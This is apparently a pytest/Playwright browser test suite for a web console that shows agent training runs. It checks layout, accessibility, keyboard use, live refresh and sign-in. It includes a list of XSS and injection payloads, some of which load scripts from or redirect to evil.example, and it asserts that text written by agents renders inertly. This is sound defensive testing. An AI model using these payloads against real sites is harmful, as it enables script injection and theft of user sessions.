"""The console's pages in a real browser: they can be read, keep themselves fresh, and let nothing that an agent wrote act."""

from __future__ import annotations

import asyncio
import dataclasses
import os
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import msgspec
import numpy as np
import pytest

from infra.servers import Unavailable
from infra.servers.debian import installed
from services.console.board import Board
from services.console.config import ConsoleSettings
from services.console.library import Library
from services.console.pages import build_app
from services.console.service import read
from shared import bus
from shared.contracts import messages as m
from shared.contracts.ids import attempt_prefix
from shared.contracts.trajectory import Segment, Span, Trajectory, pack
from shared.telemetry import Health
from tests.unit.console.conftest import RUN, World, world
from tests.unit.console.serving import OPERATOR, access

playwright = pytest.importorskip(
    "playwright.sync_api", reason="no playwright here: install playwright, axe-playwright-python"
)

pytestmark = [pytest.mark.slow, pytest.mark.timeout(120)]
__all__ = ["world"]  # a fixture

PAGES = [
    "/",
    f"/runs/{RUN}",
    f"/runs/{RUN}/attempts",
    f"/runs/{RUN}/attempts/a-0",
    f"/runs/{RUN}/problems",
    "/alerts",
    "/compare",
    f"/compare?run={RUN}&run=none",
    "/sign-in",
    "/nowhere",
]
LONG = 200_000  # tokens of a long attempt
OPENS_S = 2.0  # processor time in which its page must be there; wall time would measure whoever else is on the machine
# Each of these would set window.pwned, open a dialog, load something or change the page, if it were taken as markup.
ATTACKS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg/onload=window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    '"><style>*{display:none}</style><b a="',
    "'><a href='javascript:window.pwned=1' id=link>click</a>",
    "</textarea></title></pre><script src=//evil.example/x.js></script>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "{{ ''.__class__ }} {% raw %} ${7*7} &lt;script&gt;",
    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07 \u202e\u2066fdp.exe\u2069 \x00\x08",
    "x" * 20_000,
)


def chromium() -> str:
    """The machine's, or, where what is missing must not be skipped, installed by root."""
    from shutil import which

    if found := next(filter(None, map(which, ("chromium", "chromium-browser", "google-chrome"))), None):
        return found
    if os.environ.get("ETUDE_TEST_SERVERS") != "require":
        pytest.skip("no Chromium here: apt-get install chromium")
    try:
        return str(installed("chromium", "chromium"))
    except Unavailable as error:
        pytest.fail(str(error))


@dataclasses.dataclass
class Console:
    """One that runs in a thread; `board` may be changed through `tell` while it does."""

    url: str
    tell: Callable[[Any], None]


@pytest.fixture
def console(world: World, tmp_path: Path) -> Iterator[Console]:
    settings = ConsoleSettings(state=tmp_path)
    board, entry = Board(settings.console_attempts), access()
    for _, _, message in world.messages:
        board.apply(message)
    app = build_app(settings, board, Library(world.objects, settings.formats), entry)
    ready: threading.Event = threading.Event()
    place: dict[str, Any] = {}

    async def serve() -> None:
        async with Health("console", settings, app) as health:
            health.wait_on("nothing in particular")
            entry.bus = messages = bus.connect(settings.bus_url, client="console")
            reading = asyncio.create_task(read(messages, board))
            place.update(url=health.url, loop=asyncio.get_running_loop(), stop=asyncio.Event())
            ready.set()
            await place["stop"].wait()
            reading.cancel()
            await messages.close()

    thread = threading.Thread(target=asyncio.run, args=(serve(),))
    thread.start()
    assert ready.wait(30)
    yield Console(place["url"], lambda message: place["loop"].call_soon_threadsafe(board.apply, message))
    place["loop"].call_soon_threadsafe(place["stop"].set)
    thread.join(30)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    path = chromium()
    with playwright.sync_playwright() as driver:
        # Root needs --no-sandbox; the pages are our own.
        browser = driver.chromium.launch(executable_path=path, args=["--no-sandbox", "--disable-dev-shm-usage"])
        yield browser
        browser.close()


@pytest.fixture
def visit(browser: Any, console: Console) -> Iterator[Callable[..., Any]]:
    """visit(path, **options of the context): a page on which everything suspicious has been written down in `.heard`."""
    contexts = []

    def go(path: str, **options: Any) -> Any:
        context = browser.new_context(**options)
        context.set_default_timeout(60_000)  # a busy machine
        contexts.append(context)
        page = context.new_page()
        page.heard = heard = []
        page.on("console", lambda said: heard.append(said.text) if said.type in ("error", "warning") else None)
        page.on("pageerror", lambda error: heard.append(str(error)))
        page.on("dialog", lambda dialog: (heard.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda r: heard.append(r.url) if not r.url.startswith(console.url) else None)
        page.goto(console.url + path)
        return page

    yield go
    for context in contexts:
        context.close()


@pytest.mark.parametrize("path", PAGES)
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_page_fits_its_window_and_nobody_complains(visit: Callable[..., Any], path: str, scheme: str) -> None:
    for width in (1280, 380):
        page = visit(path, color_scheme=scheme, viewport={"width": width, "height": 800})
        assert page.locator("h1").count() == 1
        assert page.locator("header nav a").first.is_visible()
        assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth"), f"{width} wide"
        heard = [text for text in page.heard if not (path == "/nowhere" and "404" in text)]
        assert heard == []


@pytest.mark.parametrize("path", PAGES)
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_page_has_no_serious_barrier(visit: Callable[..., Any], path: str, scheme: str) -> None:
    """axe-core: contrast, names, roles, landmarks, the order of headings."""
    axe = pytest.importorskip("axe_playwright_python.sync_playwright")
    found = axe.Axe().run(visit(path, color_scheme=scheme)).response["violations"]
    serious = [
        (v["id"], [node["html"][:120] for node in v["nodes"]][:3])
        for v in found
        if v["impact"] in ("serious", "critical")
    ]
    assert serious == []


def test_pages_are_reached_by_links_and_by_the_keyboard_alone(visit: Callable[..., Any]) -> None:
    page = visit("/")
    page.get_by_role("row", name=RUN).get_by_role("link").click()
    page.get_by_role("link", name="Read attempts").click()
    page.get_by_label("Outcome").select_option("solved")
    page.get_by_role("button", name="Show").press("Enter")
    page.wait_for_url("**outcome=solved**")
    link = page.get_by_role("link", name="a-3", exact=True)
    link.focus()
    page.keyboard.press("Enter")
    page.wait_for_url("**/attempts/a-3")
    assert page.get_by_role("heading", name="Token by token").is_visible()
    assert page.heard == []


def test_an_operator_signs_in_pauses_and_signs_out_by_the_keyboard_alone(visit: Callable[..., Any]) -> None:
    page = visit(f"/runs/{RUN}")
    assert page.get_by_role("button", name="Pause").count() == 0
    page.get_by_role("link", name="Sign in", exact=True).first.press("Enter")
    page.get_by_label("Token").fill("nobody's token, long enough")
    page.keyboard.press("Enter")
    page.get_by_role("alert").wait_for()
    page.get_by_label("Token").fill(OPERATOR)
    page.keyboard.press("Enter")
    page.get_by_role("button", name="Sign out").wait_for()  # the address of the sign-in ends with the page's own
    page.get_by_text("Pause…").press("Enter")
    page.get_by_label("Why").first.fill(ATTACKS[0])
    page.keyboard.press("Enter")
    page.get_by_text("paused", exact=True).first.wait_for()
    assert page.get_by_role("row", name="alice").get_by_text(ATTACKS[0]).is_visible()
    page.get_by_text("Resume…").press("Enter")
    page.get_by_role("button", name="Resume").press("Enter")
    page.get_by_text("running", exact=True).first.wait_for()
    page.get_by_role("button", name="Sign out").press("Enter")
    page.get_by_role("link", name="Sign in", exact=True).first.wait_for()
    assert page.evaluate("window.pwned") is None
    assert page.evaluate("document.cookie") == ""  # out of reach of scripts
    assert [text for text in page.heard if "401" not in text] == []  # the wrong token's answer


def test_the_pages_of_who_is_signed_in_have_no_serious_barrier(visit: Callable[..., Any]) -> None:
    axe = pytest.importorskip("axe_playwright_python.sync_playwright")
    page = visit(f"/sign-in?next=/runs/{RUN}")
    page.get_by_label("Token").fill(OPERATOR)
    page.keyboard.press("Enter")
    page.get_by_role("button", name="Sign out").wait_for()  # the address of the sign-in ends with the page's own
    for summary in page.locator("details.action > summary").all():
        summary.click()
    found = axe.Axe().run(page).response["violations"]
    assert [(v["id"], v["nodes"][0]["html"][:120]) for v in found if v["impact"] in ("serious", "critical")] == []
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")


def test_a_page_takes_over_what_is_new_and_leaves_a_reader_alone(visit: Callable[..., Any], console: Console) -> None:
    page = visit("/alerts")
    assert page.get_by_text("fresh news").count() == 0
    console.tell(m.Alert(run=RUN, name="fresh", severity="critical", what="fresh news", examples=["one"]))
    page.get_by_text("fresh news").wait_for()
    page.locator("details").first.locator("summary").click()
    console.tell(m.Alert(run=RUN, name="later", severity="critical", what="later news"))
    page.wait_for_timeout(12_000)  # longer than the page waits between two looks
    assert page.get_by_text("later news").count() == 0
    assert page.locator("details[open]").count() == 1


def test_what_an_agent_wrote_is_shown_and_does_nothing(
    visit: Callable[..., Any], console: Console, world: World
) -> None:
    """Everywhere that such text can stand: names, problems, errors, terms, stop reasons, alerts, figures, tokens."""
    for number, attack in enumerate(ATTACKS):
        scored = world.scored(f"x-{number}", version=1, solved=False)
        key = msgspec.structs.replace(scored.key, problem=attack, group=attack)
        verdict = msgspec.structs.replace(scored.verdict, error=attack)
        console.tell(msgspec.structs.replace(scored, key=key, verdict=verdict, terms={attack: 1.0}))
        console.tell(m.Alert(run=attack, name=attack, severity="critical", what=attack, examples=[attack]))
        console.tell(m.RunControl(run=attack, action="stop", reason=attack, by=attack))
        console.tell(m.RunControl(run=RUN, action="rollback", serial=number, id="x", reason=attack, by=attack))
        console.tell(m.PolicyApplied(run=RUN, replica=attack, url="x", serial=1, pause_s=0.1, ok=False, reason=attack))
        console.tell(m.EvalFinished(run=RUN, eval=attack, serial=1, report=world.config.base, figures={attack: 1.0}))
    console.tell(m.RunControl(run=RUN, action="stop", reason=ATTACKS[0]))
    compared = f"/compare?run={RUN}&run={quote(ATTACKS[1], safe='')}&run={quote(ATTACKS[4], safe='')}"
    paths = [*PAGES[:-1], compared, *(f"/runs/{RUN}/attempts/x-{number}" for number in range(len(ATTACKS)))]
    for path in paths:
        page = visit(path)
        assert page.evaluate("window.pwned") is None, path
        assert page.locator("main").locator("script, iframe, object, embed, img, style, base, meta, #link").count() == 0
        assert page.locator("main a[href^='javascript' i], main [style], main [onerror], main [onload]").count() == 0
        assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth"), path
        assert page.heard == [], path
        assert page.url == console.url + path
    page = visit(f"/runs/{RUN}/attempts/x-1")
    assert page.get_by_text(ATTACKS[1], exact=True).first.is_visible()


def test_a_very_long_attempt_opens_at_once(visit: Callable[..., Any], console: Console, world: World) -> None:
    text = world.chat.encode("def f(a):\n    return a + 1\n")
    tokens = np.resize(np.array(text, np.int32), LONG)
    turns = 200
    size = LONG // turns
    sampled = np.arange(LONG) // size % 2 == 1
    spans = [
        Span(start=i * size, end=(i + 1) * size, role="tool_output" if i % 2 == 0 else "tool_call", turn=i, ok=True)
        for i in range(turns)
    ]
    segment = Segment(
        tokens=tokens,
        loss_mask=sampled,
        logprobs=np.where(sampled, -1.0, 0).astype(np.float32),
        versions=np.where(sampled, 3, -1).astype(np.int32),
        oldest_kv_version=3,
        spans=spans,
    )
    scored = world.scored("long", version=3, solved=True)
    trajectory = Trajectory(
        key=scored.key,
        stop=m.StopReason.submitted,
        temperature=1.0,
        effort=m.Effort(),
        segments=[segment],
        files={},
    )
    ref = world.objects.put(f"{attempt_prefix(RUN, 'long', 1)}/trajectory-0.safetensors.zst", pack(trajectory))
    console.tell(msgspec.structs.replace(scored, trajectory=ref))
    page = visit(f"/runs/{RUN}/attempts/a-0")  # the chat format is at hand from here on
    before = time.process_time()  # the console's: it is a thread of this process
    page.goto(f"{console.url}/runs/{RUN}/attempts/long")
    assert time.process_time() - before < OPENS_S
    page.get_by_role("link", name="after").click()
    page.get_by_text("tokens 1500–3000 of 200000").wait_for()
    assert page.heard == []
